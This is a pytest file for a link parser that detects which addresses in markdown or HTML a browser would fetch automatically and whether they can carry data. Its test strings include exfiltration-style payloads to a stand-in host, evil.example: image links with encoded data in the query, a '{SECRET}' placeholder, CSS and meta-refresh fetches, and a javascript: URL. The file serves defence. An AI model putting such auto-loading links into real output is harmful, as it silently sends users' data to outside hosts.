"""Is an address seen where a browser would see it, and told what it carries?"""

from __future__ import annotations

import pytest

from assay.formats.text.links import is_allowed, links_in

LOADED = [
    "![x](https://evil.example/p.png?d=c2VjcmV0)", "![x](<https://evil.example/p.png>)", "[x]: https://evil.example/p.png",
    "<img src='https://evil.example/a'>", '<IMG alt="a" SRC=https://evil.example/a>', "<style>@import 'https://evil.example/a'</style>",
    '<div style="background:url(https://evil.example/a)">', '<meta http-equiv=refresh content="0; url=https://evil.example/a">',
    "![x](//evil.example/a)", r"![x](\\evil.example/a)",
]  # fmt: skip
CLICKED = [
    "[x](https://evil.example/a)",
    "<https://evil.example/a>",
    "see https://evil.example/a",
    '<a href="https://evil.example/a">x</a>',
]


@pytest.mark.parametrize("text", LOADED)
def test_what_is_fetched_by_itself_is_told(text: str) -> None:
    assert any(link.is_loaded and link.host == "evil.example" for link in links_in(text))


@pytest.mark.parametrize("text", CLICKED)
def test_what_must_be_clicked_is_no_such_thing(text: str) -> None:
    (link,) = links_in(text)
    assert not link.is_loaded and link.host == "evil.example" and not link.carries_data


@pytest.mark.parametrize(
    "address",
    [
        "https://e.example/?q=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ", "https://e.example/?q={SECRET}", "https://e.example/" + "a1" * 30,
        "https://" + "a" * 50 + ".e.example/", "https://e.example/?x=%41%41%41%41%41%41", "https://e.example/#" + "7" * 40,
    ],
)  # fmt: skip
def test_an_address_with_room_for_data_says_so(address: str) -> None:
    assert links_in(f"[x]({address})")[0].carries_data


def test_a_user_before_the_host_does_not_pass_for_the_host() -> None:
    (link,) = links_in("see https://docs.example.com@evil.example/a")
    assert link.host == "evil.example"


def test_allowed_hosts_are_whole_names() -> None:
    assert is_allowed("docs.example.com", ["docs.example.com"]) and is_allowed("a.example.com", ["*.example.com"])
    assert not is_allowed("evil-example.com", ["*.example.com"]) and not is_allowed(
        "docs.example.com.evil.net", ["docs.example.com"]
    )


def test_scripts_are_active() -> None:
    assert links_in("[x](javascript:alert(1))")[0].is_active
